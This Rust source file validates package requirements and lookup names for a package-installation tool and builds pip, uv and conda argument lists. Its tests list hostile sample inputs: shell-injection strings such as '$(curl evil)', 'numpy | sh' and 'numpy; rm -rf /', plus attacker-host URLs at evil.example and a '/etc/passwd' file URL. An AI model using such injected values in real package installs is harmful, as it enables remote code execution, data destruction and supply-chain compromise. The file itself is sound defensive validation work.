//! Package arguments: what `install_dependencies` accepts (plain PEP 508 requirements, nothing an
//! installer would read as an option, a URL or a path) and what `check_installed_packages` accepts
//! (distribution or import names). Pure validation; refusals name the entry and the reason.

use std::str::FromStr;

use pep508_rs::{Requirement, VersionOrUrl};
use serde::Serialize;

use crate::environment::{CONDA_ROOT, EnvSpec, EnvType};
use crate::error::PackageError;

/// Most entries one call may name.
pub const MAX_PACKAGES: usize = 50;
/// Longest requirement accepted.
pub const MAX_REQUIREMENT_LEN: usize = 200;
/// Longest name accepted by `check_installed_packages`.
pub const MAX_NAME_LEN: usize = 100;

/// Characters a shell would interpret and no requirement needs.
const SHELL_METACHARACTERS: &[char] = &['`', '$', '|', '&', '\\', '{', '}', '#', '^', '%'];
const ARCHIVE_ENDINGS: &[&str] = &[
    ".whl", ".zip", ".tar.gz", ".tgz", ".tar.bz2", ".tar.xz", ".egg",
];
const VCS_PREFIXES: &[&str] = &["git+", "hg+", "svn+", "bzr+", "file:"];

/// A requirement that passed validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ValidRequirement {
    /// As the user wrote it (trimmed); this is what the installer receives.
    pub text: String,
    /// The normalized distribution name (`python-dateutil`).
    pub name: String,
    /// The same requirement as a conda spec, when conda can express it (no extras, no markers,
    /// only `==`, `!=`, `<`, `<=`, `>`, `>=`).
    pub conda_spec: Option<String>,
}

fn refuse(entry: &str, reason: impl Into<String>) -> PackageError {
    PackageError::Refused {
        entry: entry.chars().take(80).collect(),
        reason: reason.into(),
    }
}

/// A list must name at least one and at most [`MAX_PACKAGES`] entries.
fn check_count(entries: &[String]) -> Result<(), PackageError> {
    if entries.is_empty() {
        return Err(PackageError::Empty);
    }
    if entries.len() > MAX_PACKAGES {
        return Err(PackageError::TooMany {
            count: entries.len(),
            max: MAX_PACKAGES,
        });
    }
    Ok(())
}

/// Checks the list and every entry; the whole call is refused at the first bad entry.
pub fn validate_requirements(entries: &[String]) -> Result<Vec<ValidRequirement>, PackageError> {
    check_count(entries)?;
    entries.iter().map(|e| validate_requirement(e)).collect()
}

/// One requirement: a name with optional extras, version specifiers and markers.
pub fn validate_requirement(entry: &str) -> Result<ValidRequirement, PackageError> {
    let text = entry.trim();
    if text.is_empty() {
        return Err(refuse(entry, "empty entry"));
    }
    if entry.len() > MAX_REQUIREMENT_LEN {
        return Err(refuse(
            entry,
            format!("longer than {MAX_REQUIREMENT_LEN} characters"),
        ));
    }
    if entry.chars().any(char::is_control) {
        return Err(refuse(entry, "contains a newline or control character"));
    }
    if text.starts_with('-') {
        return Err(refuse(
            entry,
            "starts with '-': installer options are not accepted, only requirements such as 'pandas>=2'",
        ));
    }
    let lower = text.to_ascii_lowercase();
    if lower.contains("://") || VCS_PREFIXES.iter().any(|p| lower.starts_with(p)) {
        return Err(refuse(
            entry,
            "URLs and VCS references are not accepted; name a package from the configured index",
        ));
    }
    if text.contains('@') {
        return Err(refuse(
            entry,
            "direct references ('name @ url') are not accepted",
        ));
    }
    if text.contains('/') || text.starts_with('.') || text.starts_with('~') {
        return Err(refuse(
            entry,
            "local paths are not accepted; name a package",
        ));
    }
    if let Some(c) = text.chars().find(|c| SHELL_METACHARACTERS.contains(c)) {
        return Err(refuse(
            entry,
            format!("contains the character {c:?}, which no requirement needs"),
        ));
    }
    if ARCHIVE_ENDINGS.iter().any(|end| lower.ends_with(end)) {
        return Err(refuse(
            entry,
            "archive file names are not accepted; name a package",
        ));
    }
    let req = Requirement::<pep508_rs::VerbatimUrl>::from_str(text).map_err(|e| {
        refuse(
            entry,
            format!(
                "not a valid requirement (PEP 508): {}",
                first_line(&e.to_string())
            ),
        )
    })?;
    let specifiers = match &req.version_or_url {
        Some(VersionOrUrl::Url(_)) => {
            return Err(refuse(
                entry,
                "direct references ('name @ url') are not accepted",
            ));
        }
        Some(VersionOrUrl::VersionSpecifier(s)) => Some(s.to_string()),
        None => None,
    };
    let name = req.name.to_string();
    let conda_spec = conda_spec(
        &name,
        req.extras.is_empty(),
        req.marker.is_true(),
        specifiers.as_deref(),
    );
    Ok(ValidRequirement {
        text: text.to_string(),
        name,
        conda_spec,
    })
}

fn first_line(s: &str) -> &str {
    s.lines().next().unwrap_or(s)
}

fn conda_spec(
    name: &str,
    no_extras: bool,
    no_marker: bool,
    specifiers: Option<&str>,
) -> Option<String> {
    if !no_extras || !no_marker {
        return None;
    }
    match specifiers {
        None => Some(name.to_string()),
        Some(s) if s.contains("~=") || s.contains("===") => None,
        Some(s) => Some(format!("{name}{}", s.replace(' ', ""))),
    }
}

/// Names for `check_installed_packages`: distribution names (`python-dateutil`) or import names
/// (`dateutil`, `sklearn`, `yaml.loader`).
pub fn validate_lookup_names(entries: &[String]) -> Result<Vec<String>, PackageError> {
    check_count(entries)?;
    entries
        .iter()
        .map(|entry| {
            let name = entry.trim();
            let ok = !name.is_empty()
                && name.len() <= MAX_NAME_LEN
                && name.chars().next().is_some_and(|c| c.is_ascii_alphanumeric())
                && name
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'));
            if ok {
                Ok(name.to_string())
            } else {
                Err(refuse(
                    entry,
                    format!(
                        "not a package or module name (letters, digits, '.', '_', '-'; at most {MAX_NAME_LEN})"
                    ),
                ))
            }
        })
        .collect()
}

/// One installer invocation: an argv list (never a shell string).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Invocation {
    pub argv: Vec<String>,
    /// Which installer it is (`pip`, `uv`, `conda`), reported per package.
    pub via: &'static str,
}

/// A batch invocation and the requirements it covers.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Step {
    #[serde(flatten)]
    pub invocation: Invocation,
    pub packages: Vec<String>,
}

/// What the install container runs: batches first; for a requirement no batch installed, its
/// fallbacks one by one (so one bad package does not hide which others are fine).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct InstallPlan {
    pub steps: Vec<Step>,
    pub fallback: std::collections::BTreeMap<String, Vec<Invocation>>,
    /// Requirement → distribution name, to read versions before and after.
    pub names: std::collections::BTreeMap<String, String>,
}

fn pip(env: &EnvSpec, reqs: &[&str]) -> Invocation {
    let mut argv = vec![
        env.interpreter(),
        "-m".into(),
        "pip".into(),
        "install".into(),
        "--no-input".into(),
        "--".into(),
    ];
    argv.extend(reqs.iter().map(|r| r.to_string()));
    Invocation { argv, via: "pip" }
}

fn uv(env: &EnvSpec, reqs: &[&str]) -> Invocation {
    let mut argv = vec![
        "uv".into(),
        "pip".into(),
        "install".into(),
        "--python".into(),
        env.interpreter(),
        "--".into(),
    ];
    argv.extend(reqs.iter().map(|r| r.to_string()));
    Invocation { argv, via: "uv" }
}

fn conda(env: &EnvSpec, specs: &[&str]) -> Invocation {
    let mut argv = vec![
        format!("{CONDA_ROOT}/bin/conda"),
        "install".into(),
        "-y".into(),
        "-q".into(),
        "-p".into(),
        env.prefix(),
        "--".into(),
    ];
    argv.extend(specs.iter().map(|r| r.to_string()));
    Invocation { argv, via: "conda" }
}

/// The plan for installing `reqs` into `env` with its own installer: pip for venv, uv for
/// venv-uv, conda for conda (pip inside the conda env for what conda cannot express or lacks).
pub fn install_plan(env: &EnvSpec, reqs: &[ValidRequirement]) -> InstallPlan {
    let texts: Vec<&str> = reqs.iter().map(|r| r.text.as_str()).collect();
    let many = reqs.len() > 1;
    let mut plan = InstallPlan {
        steps: Vec::new(),
        fallback: Default::default(),
        names: reqs
            .iter()
            .map(|r| (r.text.clone(), r.name.clone()))
            .collect(),
    };
    match env.env_type {
        EnvType::Venv | EnvType::VenvUv => {
            let one = |r: &[&str]| {
                if env.env_type == EnvType::Venv {
                    pip(env, r)
                } else {
                    uv(env, r)
                }
            };
            plan.steps.push(Step {
                invocation: one(&texts),
                packages: texts.iter().map(|t| t.to_string()).collect(),
            });
            if many {
                for t in &texts {
                    plan.fallback.insert(t.to_string(), vec![one(&[t])]);
                }
            }
        }
        EnvType::Conda => {
            let (by_conda, by_pip): (Vec<&ValidRequirement>, Vec<&ValidRequirement>) =
                reqs.iter().partition(|r| r.conda_spec.is_some());
            if !by_conda.is_empty() {
                let specs: Vec<&str> = by_conda
                    .iter()
                    .filter_map(|r| r.conda_spec.as_deref())
                    .collect();
                plan.steps.push(Step {
                    invocation: conda(env, &specs),
                    packages: by_conda.iter().map(|r| r.text.clone()).collect(),
                });
            }
            if !by_pip.is_empty() {
                let texts: Vec<&str> = by_pip.iter().map(|r| r.text.as_str()).collect();
                plan.steps.push(Step {
                    invocation: pip(env, &texts),
                    packages: texts.iter().map(|t| t.to_string()).collect(),
                });
            }
            for r in reqs {
                let mut attempts = Vec::new();
                if let Some(spec) = r.conda_spec.as_deref().filter(|_| by_conda.len() > 1) {
                    attempts.push(conda(env, &[spec]));
                }
                if r.conda_spec.is_some() || by_pip.len() > 1 {
                    attempts.push(pip(env, &[r.text.as_str()]));
                }
                if !attempts.is_empty() {
                    plan.fallback.insert(r.text.clone(), attempts);
                }
            }
        }
    }
    plan
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reqs(list: &[&str]) -> Vec<ValidRequirement> {
        list.iter().map(|s| ok(s)).collect()
    }

    #[test]
    fn pip_plan_for_venv() {
        let env = EnvSpec::default_for(EnvType::Venv);
        let plan = install_plan(&env, &reqs(&["six", "attrs>=23"]));
        assert_eq!(plan.steps.len(), 1);
        assert_eq!(
            plan.steps[0].invocation.argv,
            [
                "/opt/venv/bin/python",
                "-m",
                "pip",
                "install",
                "--no-input",
                "--",
                "six",
                "attrs>=23"
            ]
        );
        assert_eq!(
            plan.fallback["six"][0].argv.last().map(String::as_str),
            Some("six")
        );
        assert_eq!(plan.names["attrs>=23"], "attrs");
        // A single package needs no fallback: the batch is that package.
        assert!(install_plan(&env, &reqs(&["six"])).fallback.is_empty());
    }

    #[test]
    fn uv_plan_targets_the_env_interpreter() {
        let env = EnvSpec::default_for(EnvType::VenvUv);
        let plan = install_plan(&env, &reqs(&["six"]));
        assert_eq!(
            plan.steps[0].invocation.argv,
            [
                "uv",
                "pip",
                "install",
                "--python",
                "/opt/uv-venv/bin/python",
                "--",
                "six"
            ]
        );
        assert_eq!(plan.steps[0].invocation.via, "uv");
    }

    #[test]
    fn conda_plan_falls_back_to_pip() {
        let env = EnvSpec::new(EnvType::Conda, Some("work")).unwrap();
        let plan = install_plan(&env, &reqs(&["numpy>=1.26", "rich[jupyter]"]));
        assert_eq!(
            plan.steps[0].invocation.argv,
            [
                "/opt/conda/bin/conda",
                "install",
                "-y",
                "-q",
                "-p",
                "/opt/conda/envs/work",
                "--",
                "numpy>=1.26"
            ]
        );
        assert_eq!(plan.steps[1].invocation.via, "pip");
        assert_eq!(plan.steps[1].packages, ["rich[jupyter]"]);
        let numpy = &plan.fallback["numpy>=1.26"];
        assert_eq!(numpy.len(), 1);
        assert_eq!(numpy[0].via, "pip");
        assert_eq!(numpy[0].argv[0], "/opt/conda/envs/work/bin/python");
        assert!(!plan.fallback.contains_key("rich[jupyter]"));
    }

    #[test]
    fn every_argument_is_one_argv_element_after_the_separator() {
        let env = EnvSpec::default_for(EnvType::Venv);
        let plan = install_plan(&env, &reqs(&["pkg ; sys_platform == 'linux'"]));
        let argv = &plan.steps[0].invocation.argv;
        let sep = argv.iter().position(|a| a == "--").unwrap();
        assert_eq!(&argv[sep + 1..], ["pkg ; sys_platform == 'linux'"]);
    }

    fn ok(s: &str) -> ValidRequirement {
        validate_requirement(s).unwrap_or_else(|e| panic!("{s:?} refused: {e}"))
    }

    #[test]
    fn plain_requirements_pass() {
        assert_eq!(ok("numpy").name, "numpy");
        assert_eq!(ok("  pandas>=2.0  ").text, "pandas>=2.0");
        assert_eq!(ok("Python_Dateutil==2.9.0").name, "python-dateutil");
        assert_eq!(
            ok("requests[security,socks]>=2.8.1,==2.8.*").name,
            "requests"
        );
        let with_marker = ok("tomli>=1.1; python_version < \"3.11\"");
        assert_eq!(with_marker.conda_spec, None);
        assert_eq!(ok("six").conda_spec.as_deref(), Some("six"));
        assert_eq!(
            ok("numpy>=1.26, <3").conda_spec.as_deref(),
            Some("numpy>=1.26,<3")
        );
        assert_eq!(ok("attrs~=23.1").conda_spec, None);
        assert_eq!(ok("rich[jupyter]").conda_spec, None);
        assert_eq!(ok("zope.interface!=5.0").name, "zope-interface");
        assert_eq!(ok("pkg ; sys_platform == 'linux'").name, "pkg");
    }

    #[test]
    fn hostile_requirements_are_refused() {
        let long = "a".repeat(MAX_REQUIREMENT_LEN + 1);
        let hostile = [
            ("", "empty"),
            ("   ", "empty"),
            ("-r requirements.txt", "options"),
            ("--index-url=http://evil.example/simple", "options"),
            ("-e .", "options"),
            ("--pre", "options"),
            ("http://evil.example/pkg.whl", "URL"),
            ("https://files.pythonhosted.org/x-1.0.tar.gz", "URL"),
            ("git+https://github.com/x/y.git", "URL"),
            ("git+ssh://git@github.com/x/y", "URL"),
            ("hg+http://x/y", "URL"),
            ("file:///etc/passwd", "URL"),
            ("pkg @ https://evil.example/pkg.whl", "URL"),
            ("pkg @ evil", "direct reference"),
            ("pkg@file:///tmp/x", "URL"),
            ("./local/pkg", "local path"),
            ("../pkg", "local path"),
            ("/tmp/pkg", "local path"),
            ("~/pkg", "local path"),
            ("pkg-1.0-py3-none-any.whl", "archive"),
            ("pkg.tar.gz", "archive"),
            ("numpy; rm -rf x", "PEP 508"),
            ("numpy; rm -rf /", "local path"),
            ("numpy && curl evil", "'&'"),
            ("numpy | sh", "'|'"),
            ("$(curl evil)", "'$'"),
            ("`id`", "'`'"),
            ("numpy\nrequests", "newline"),
            ("numpy\r", "control"),
            ("num\0py", "control"),
            ("numpy\t", "control"),
            ("numpy #comment", "'#'"),
            ("pkg>=1 \\", "'\\\\'"),
            ("pkg{a,b}", "'{'"),
            ("numpy===", "PEP 508"),
            ("numpy>>1", "PEP 508"),
            ("[extra]", "PEP 508"),
            ("requests[", "PEP 508"),
            (long.as_str(), "longer than"),
        ];
        for (entry, why) in hostile {
            let err = validate_requirement(entry).expect_err(entry).to_string();
            assert!(err.contains(why), "{entry:?}: {err} (expected {why:?})");
        }
    }

    #[test]
    fn list_limits() {
        assert!(matches!(
            validate_requirements(&[]),
            Err(PackageError::Empty)
        ));
        let many: Vec<String> = (0..=MAX_PACKAGES).map(|i| format!("p{i}")).collect();
        assert!(matches!(
            validate_requirements(&many),
            Err(PackageError::TooMany { .. })
        ));
        let mixed = vec!["numpy".to_string(), "-r x".to_string()];
        let err = validate_requirements(&mixed).unwrap_err().to_string();
        assert!(err.contains("-r x"), "{err}");
    }

    #[test]
    fn lookup_names() {
        let names: Vec<String> = [
            "numpy",
            "python-dateutil",
            "dateutil",
            "sklearn",
            "yaml.loader",
            "zope.interface",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        assert_eq!(validate_lookup_names(&names).unwrap(), names);
        for bad in [
            "",
            "-x",
            "a b",
            "os;print(1)",
            "__import__('os')",
            "a/b",
            "x\ny",
            ".hidden",
            &"a".repeat(101),
        ] {
            assert!(
                validate_lookup_names(&[bad.to_string()]).is_err(),
                "{bad:?} accepted"
            );
        }
    }
}
